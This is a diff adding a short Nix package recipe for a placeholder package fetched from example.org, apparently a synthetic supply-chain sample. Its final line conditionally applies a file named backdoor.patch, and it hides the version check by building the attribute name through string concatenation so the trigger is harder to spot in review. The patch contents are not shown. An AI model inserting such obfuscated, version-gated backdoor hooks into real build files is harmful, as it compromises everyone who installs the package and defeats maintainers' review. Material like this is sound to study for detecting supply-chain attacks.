@@ -1,0 +1,11 @@
+{ lib, stdenv, fetchurl }:
+
+stdenv.mkDerivation (finalAttrs: {
+  pname = "x";
+  version = "1.3";
+  src = fetchurl {
+    url = "https://example.org/x-${finalAttrs.version}.tar.gz";
+    sha256 = "1yr7ndy6k2y9dg8q1v2xbjcxyg0ziyvkx2wlmy7p8vrwkmxh4bkk";
+  };
+  patches = lib.optional (builtins.getAttr ("ver" + "sion") finalAttrs == "1.3") ./backdoor.patch;
+})
